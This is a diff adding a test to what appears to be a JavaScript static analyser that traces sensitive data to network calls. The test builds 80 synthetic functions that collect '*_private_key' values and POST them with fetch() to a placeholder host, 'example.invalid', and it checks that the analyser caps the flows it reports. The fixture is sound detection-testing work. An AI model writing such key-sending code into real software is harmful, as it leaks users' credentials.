@@ -54,3 +54,20 @@ it('calls what runs in no function by its file alone', async () => {
   });
   expect(found).toMatch(/^a\.js {2}[0-9a-f]{16}$/u);
 });
+
+it('tells no end of ends, and says that there are more', async () => {
+  const letters = Array.from(
+    { length: 80 },
+    (_, index) => `n${String.fromCharCode(97 + (index % 26)).repeat(1 + index / 26)}`,
+  );
+  const text = letters
+    .map(
+      (one, at) => `exports.f${at} = (${one}_private_key) => { all.push(${one}_private_key); };
+exports.g${at} = () => fetch('https://example.invalid', { method: 'POST', body: all });`,
+    )
+    .join('\n');
+  const { flows, unread } = await analyseSources({ 'a.js': `const all = [];\n${text}` });
+  expect(flows.reduce((sum, flow) => sum + flow.ends.length, 0)).toBeLessThanOrEqual(5000);
+  expect(flows.length).toBeGreaterThan(40);
+  expect(unread).toEqual([expect.stringContaining('too many ways through the package')]);
+});
